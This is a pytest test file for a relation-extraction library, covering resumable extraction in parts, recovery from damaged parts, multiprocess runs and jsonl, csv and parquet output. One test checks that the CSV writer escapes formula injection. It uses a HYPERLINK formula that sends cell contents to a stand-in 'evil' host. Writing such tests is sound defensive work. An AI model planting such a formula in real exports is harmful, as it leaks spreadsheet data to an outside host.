"""A file extracted in parts loses nothing and repeats nothing, whenever it is stopped and whoever goes on."""

import csv
import errno
import json
import os
import subprocess
import sys
from collections.abc import Callable, Iterable, Iterator
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import pyarrow.parquet as pq
import pytest
import torch

from atlop.errors import AtlopError
from atlop.files import hidden_path
from atlop.inference import RelationExtractor, parts
from atlop.inference.host import host_processes
from atlop.inference.part_folder import PartFolder
from atlop.inference.parts import ExtractionSummary, extract_file
from atlop.inference.recognition import Recognition
from atlop.inference.sources import Source
from atlop.inference.tables import WRITERS
from tests.golden_values import golden_documents
from tests.inference.texts import plain_row

DOCUMENTS = 7


@pytest.fixture(autouse=True)
def _small_parts(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(parts, "DOCUMENTS_PER_PART", 2)


@pytest.fixture
def file(tmp_path: Path) -> Path:
    """Six short documents, a blank line, and one line that is no document."""
    rows = [json.dumps(plain_row(golden_documents()[index])) for index in (0, 1, 6, 0, 7, 6)]
    path = tmp_path / "documents.jsonl"
    path.write_text("\n".join([*rows[:2], "", "{", *rows[2:]]) + "\n", encoding="utf-8")
    return path


def collect_results(path: Path) -> list[dict[str, Any]]:
    return [json.loads(line) for line in path.read_text(encoding="utf-8").splitlines()]


def parts_of(output: Path) -> Path:
    return hidden_path(output, suffix=".parts")


def stopping_after(documents: int) -> Any:
    def progress(items: Iterable[None]) -> Iterator[None]:
        for number, item in enumerate(items):
            if number == documents:
                raise KeyboardInterrupt
            yield item

    return progress


def test_a_line_a_document_in_their_order(extractor: RelationExtractor, file: Path, tmp_path: Path) -> None:
    done = extract_file(extractor, Source(file), output=tmp_path / "facts.jsonl")

    found = collect_results(tmp_path / "facts.jsonl")
    assert [row["document"] for row in found] == list(range(DOCUMENTS))
    assert found[2]["error"].startswith(f"{file}, line 4, column 2: not valid JSON")
    expected = list(extractor.pipe(plain_row(golden_documents()[index]) for index in (0, 1)))
    assert found[:2] == [json.loads(json.dumps(result.as_json())) for result in expected]
    assert isinstance(done, ExtractionSummary)
    assert (done.computed, done.counts.documents, done.counts.errors) == (DOCUMENTS, DOCUMENTS, 1)
    assert done.counts.facts == sum(len(row.get("facts", ())) for row in found)
    assert sorted(path.name for path in tmp_path.iterdir()) == ["documents.jsonl", "facts.jsonl"]


@pytest.mark.parametrize("stop", range(DOCUMENTS))
def test_a_run_that_was_stopped_goes_on_where_it_was(
    stop: int, extractor: RelationExtractor, file: Path, tmp_path: Path
) -> None:
    extract_file(extractor, Source(file), output=tmp_path / "whole.jsonl")
    output = tmp_path / "facts.jsonl"
    with pytest.raises(KeyboardInterrupt):
        extract_file(extractor, Source(file), output=output, progress=stopping_after(stop))
    assert not output.exists()

    done = extract_file(extractor, Source(file), output=output)

    assert isinstance(done, ExtractionSummary)
    assert done.computed == DOCUMENTS - stop // 2 * 2
    assert output.read_bytes() == (tmp_path / "whole.jsonl").read_bytes()
    assert not parts_of(tmp_path / "facts.jsonl").exists()


def cut(whole: bytes) -> bytes:
    return b"".join(whole.splitlines(keepends=True)[:-1])


@pytest.mark.parametrize(
    "damage",
    [
        lambda whole: b"",
        lambda whole: whole[:1],
        cut,
        lambda whole: whole.replace(b'"margin": ', b'"margin": 1', 1),
        lambda whole: whole.replace(b'"documents": 2', b'"documents": 3'),
        lambda whole: whole.replace(b'"counts": ', b'"count": '),
        lambda whole: whole[: len(whole) // 2] + bytes([whole[len(whole) // 2] ^ 1]) + whole[len(whole) // 2 + 1 :],
    ],
    ids=["empty", "one byte", "no counts", "other value", "other counts", "other key", "one bit"],
)
def test_a_damaged_part_is_made_again(
    damage: Callable[[bytes], bytes],
    extractor: RelationExtractor,
    file: Path,
    tmp_path: Path,
    caplog: pytest.LogCaptureFixture,
) -> None:
    extract_file(extractor, Source(file), output=tmp_path / "whole.jsonl")
    output, part = tmp_path / "facts.jsonl", parts_of(tmp_path / "facts.jsonl") / "part-00000001.jsonl"
    with pytest.raises(KeyboardInterrupt):
        extract_file(extractor, Source(file), output=output, progress=stopping_after(DOCUMENTS - 1))
    whole = part.read_bytes()
    part.write_bytes(damage(whole))
    assert part.read_bytes() != whole

    done = extract_file(extractor, Source(file), output=output)

    assert isinstance(done, ExtractionSummary)
    assert done.computed == 2 + DOCUMENTS % 2
    [message] = caplog.messages
    assert message.startswith(f"{part}: damaged, so it is made again (")
    assert output.read_bytes() == (tmp_path / "whole.jsonl").read_bytes()


def test_a_damaged_manifest_is_one_message(extractor: RelationExtractor, file: Path, tmp_path: Path) -> None:
    manifest = parts_of(tmp_path / "facts.jsonl") / "manifest.json"
    manifest.parent.mkdir()
    manifest.write_text("[]", encoding="utf-8")

    with pytest.raises(AtlopError, match=r"manifest\.json: expected an object, found \[\]"):
        extract_file(extractor, Source(file), output=tmp_path / "facts.jsonl")


def test_no_cell_of_a_csv_file_is_a_formula(tmp_path: Path) -> None:
    texts = ['=HYPERLINK("http://evil/"&A1)', "+1", "-2+3", "@SUM(1)", "\t=1", "\r=1", "\n=1", "＝1", "'", "a=1"]
    results: list[dict[str, Any]] = [
        {
            "document": index,
            "title": text,
            "facts": [
                {
                    "subject": {"entity": 0, "name": text, "type": text, "id": text, "mentions": []},
                    "object": {"entity": 1, "name": text, "type": text, "id": None, "mentions": []},
                    "relation": text,
                    "relation_name": text,
                    "margin": -0.5,
                    "probability": None,
                    "evidence": [],
                }
            ],
        }
        for index, text in enumerate(texts)
    ]
    for name, write in WRITERS.items():
        write(tmp_path / f"facts{name}", lines=[json.dumps(result).encode() + b"\n" for result in results])

    with (tmp_path / "facts.csv").open(encoding="utf-8", newline="") as opened:
        rows = list(csv.DictReader(opened))
    for text, row in zip(texts, rows, strict=True):
        expected = text if text in ("'", "a=1") else f"'{text}"
        keys = ("title", "subject_name", "subject_type", "subject_id", "object_name", "relation", "relation_name")
        assert {row[key] for key in keys} == {expected}
        assert float(row["margin"]) == -0.5
    assert [row["title"] for row in pq.read_table(tmp_path / "facts.parquet").to_pylist()] == texts
    assert collect_results(tmp_path / "facts.jsonl") == results


def test_a_run_that_was_stopped_does_not_go_on_with_other_settings_or_code(
    extractor: RelationExtractor, file: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    output = tmp_path / "facts.jsonl"
    with pytest.raises(KeyboardInterrupt):
        extract_file(extractor, Source(file), output=output, progress=stopping_after(3))

    with pytest.raises(AtlopError, match=r"parts of facts\.jsonl with another explain than now"):
        extract_file(extractor, Source(file), output=output, explain=True)
    file.write_bytes(file.read_bytes() + b"{}\n")
    with pytest.raises(AtlopError, match="with another input_sha256 and group_by than now"):
        extract_file(extractor, Source(file), output=output, group_by="id")
    file.write_bytes(file.read_bytes().removesuffix(b"{}\n"))
    monkeypatch.setattr(parts, "code_sha256", lambda: "another")
    with pytest.raises(AtlopError, match="with another code_sha256 than now"):
        extract_file(extractor, Source(file), output=output)


def test_a_run_that_was_stopped_does_not_go_on_with_another_version_of_its_recogniser(
    model_folder: Path, file: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    extractor = RelationExtractor.from_pretrained(model_folder, ner="tests.inference.recognisers:known_names")
    with pytest.raises(KeyboardInterrupt):
        extract_file(extractor, Source(file), output=tmp_path / "facts.jsonl", progress=stopping_after(3))
    monkeypatch.setattr(Recognition, "version", "another")

    with pytest.raises(AtlopError, match="with another ner_version than now"):
        extract_file(extractor, Source(file), output=tmp_path / "facts.jsonl")


@pytest.mark.parametrize(
    ("device", "is_recognising", "has_one_chunk"), [("cpu", False, False), ("cpu", True, True), ("cuda", True, True)]
)
def test_no_process_is_started_that_could_not_help(device: str, is_recognising: bool, has_one_chunk: bool) -> None:
    found = host_processes(torch.device(device), is_recognising=is_recognising, has_one_chunk=has_one_chunk)

    assert found == 0
    assert host_processes(torch.device(device), is_recognising=True, has_one_chunk=False) >= 1


def test_processes_on_one_machine_share_its_cores(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(os, "sched_getaffinity", lambda _: range(32), raising=False)
    found = {}
    for launched in (1, 4, 32):
        monkeypatch.setenv("LOCAL_WORLD_SIZE", str(launched))
        found[launched] = host_processes(torch.device("cuda"), is_recognising=False, has_one_chunk=False)

    assert found == {1: 8, 4: 4, 32: 1}


def test_a_part_that_cannot_be_written_ends_the_extraction(
    extractor: RelationExtractor, file: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    def fail(*_: object) -> None:
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr(PartFolder, "write", fail)
    with pytest.raises(OSError, match="No space left"):
        extract_file(extractor, Source(file), output=tmp_path / "facts.jsonl")

    assert not (tmp_path / "facts.jsonl").exists()


def test_parts_without_a_manifest_are_not_trusted(extractor: RelationExtractor, file: Path, tmp_path: Path) -> None:
    leftover = parts_of(tmp_path / "facts.jsonl")
    leftover.mkdir()
    (leftover / "part-00000000.jsonl").write_text("{}\n", encoding="utf-8")

    extract_file(extractor, Source(file), output=tmp_path / "facts.jsonl")

    assert len(collect_results(tmp_path / "facts.jsonl")) == DOCUMENTS


def test_processes_that_recognise_read_and_write_beside_the_model_change_nothing(
    model_folder: Path, file: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    extractor = RelationExtractor.from_pretrained(model_folder, ner="tests.inference.recognisers:known_names")
    with file.open("a", encoding="utf-8") as lines:
        lines.write('{"text": "Lucia Vestergaard left Port Lockroy."}\n{"text": "unreadable"}\n')
    extract_file(extractor, Source(file), output=tmp_path / "alone.jsonl")
    monkeypatch.setattr(parts, "host_processes", lambda device, **_: 2)
    done = extract_file(extractor, Source(file), output=tmp_path / "facts.jsonl")
    assert isinstance(done, ExtractionSummary)
    assert (done.computed, done.counts.errors) == (DOCUMENTS + 2, 2)
    assert collect_results(tmp_path / "facts.jsonl")[DOCUMENTS]["facts"]
    assert (tmp_path / "facts.jsonl").read_bytes() == (tmp_path / "alone.jsonl").read_bytes()


READING = """
import time
from atlop.inference.host import HostProcesses
print(*HostProcesses(None, count=1).map(int, ["1"]), flush=True)
time.sleep(60)
"""


def test_processes_that_read_end_when_the_one_that_started_them_is_killed() -> None:
    with subprocess.Popen([sys.executable, "-c", READING], stdout=subprocess.PIPE) as reading:
        assert reading.stdout is not None
        assert reading.stdout.readline() == b"1\n"
        reading.kill()
        assert reading.communicate(timeout=20)[0] == b""  # when the last process has closed its output


class _Process:
    """An extractor as one of several processes has it."""

    def __init__(self, extractor: RelationExtractor, *, process: int, processes: int):
        self.accelerator = SimpleNamespace(
            is_main_process=process == 0,
            process_index=process,
            num_processes=processes,
            wait_for_everyone=lambda: None,
            device=torch.device("cpu"),
        )
        self.in_chunks, self.hosting = extractor.in_chunks, extractor.hosting
        self.fingerprint, self.fusion_cost = extractor.fingerprint, extractor.fusion_cost
        self.precision, self.recognition = extractor.precision, extractor.recognition


@pytest.mark.parametrize("processes", [2, 3, 6])
def test_processes_share_the_parts_and_the_main_one_puts_them_together(
    processes: int, extractor: RelationExtractor, file: Path, tmp_path: Path
) -> None:
    extract_file(extractor, Source(file), output=tmp_path / "whole.jsonl")
    output = tmp_path / "facts.jsonl"
    with pytest.raises(AtlopError, match="is missing although every process has ended"):
        extract_file(_Process(extractor, process=0, processes=processes), Source(file), output=output)  # type: ignore[arg-type]
    for process in range(1, processes):
        other: Any = _Process(extractor, process=process, processes=processes)
        assert extract_file(other, Source(file), output=output) is None

    done = extract_file(_Process(extractor, process=0, processes=processes), Source(file), output=output)  # type: ignore[arg-type]

    assert isinstance(done, ExtractionSummary)
    assert done.computed == 0
    assert output.read_bytes() == (tmp_path / "whole.jsonl").read_bytes()


def test_tables_have_a_row_a_fact_and_one_for_an_invalid_document(
    extractor: RelationExtractor, file: Path, tmp_path: Path
) -> None:
    for suffix in ("jsonl", "csv", "parquet"):
        extract_file(extractor, Source(file), output=tmp_path / f"facts.{suffix}", explain=True)

    results = collect_results(tmp_path / "facts.jsonl")
    with (tmp_path / "facts.csv").open(encoding="utf-8", newline="") as opened:
        rows = list(csv.DictReader(opened))
    table = pq.read_table(tmp_path / "facts.parquet").to_pylist()
    facts = [(result, fact) for result in results for fact in result.get("facts", ())]
    assert len(table) == len(rows) == len(facts) + 1
    assert [row["document"] for row in table if row["error"]] == [2]
    for row, text, (result, fact) in zip(
        (row for row in table if not row["error"]), (row for row in rows if not row["error"]), facts, strict=True
    ):
        assert (row["document"], row["title"]) == (result["document"], result["title"])
        assert (row["subject_name"], row["object_entity"]) == (fact["subject"]["name"], fact["object"]["entity"])
        assert (row["relation"], row["margin"]) == (fact["relation"], fact["margin"])
        assert json.loads(row["context"]) == fact["context"]
        assert json.loads(row["object_mentions"]) == fact["object"]["mentions"]
        assert float(text["margin"]) == row["margin"]
        assert {key: text[key] for key in ("title", "relation", "evidence", "context")} == {
            key: row[key] for key in ("title", "relation", "evidence", "context")
        }


def test_a_packed_file_is_read_and_written(extractor: RelationExtractor, file: Path, tmp_path: Path) -> None:
    import gzip

    packed = tmp_path / "documents.jsonl.gz"
    packed.write_bytes(gzip.compress(file.read_bytes()))

    extract_file(extractor, Source(packed), output=tmp_path / "facts.csv.gz")
    extract_file(extractor, Source(file), output=tmp_path / "facts.csv")

    plain = gzip.decompress((tmp_path / "facts.csv.gz").read_bytes()).decode()
    assert plain.replace(".jsonl.gz, line", ".jsonl, line") == (tmp_path / "facts.csv").read_bytes().decode()


@pytest.mark.parametrize("name", ["facts.json", "facts", "facts.parquet.gz"])
def test_an_unknown_format_is_refused(name: str, extractor: RelationExtractor, file: Path, tmp_path: Path) -> None:
    with pytest.raises(AtlopError, match=r"expected a name that ends in \.jsonl, \.csv, \.parquet"):
        extract_file(extractor, Source(file), output=tmp_path / name)


def test_an_output_that_is_there_is_not_overwritten(extractor: RelationExtractor, file: Path, tmp_path: Path) -> None:
    with pytest.raises(AtlopError, match="already exists"):
        extract_file(extractor, Source(file), output=file)


def test_an_empty_file_gives_an_empty_one(extractor: RelationExtractor, tmp_path: Path) -> None:
    (tmp_path / "none.jsonl").write_bytes(b"\n")

    extract_file(extractor, Source(tmp_path / "none.jsonl"), output=tmp_path / "facts.jsonl")
    extract_file(extractor, Source(tmp_path / "none.jsonl"), output=tmp_path / "facts.parquet")

    assert (tmp_path / "facts.jsonl").read_bytes() == b""
    assert pq.read_table(tmp_path / "facts.parquet").num_rows == 0
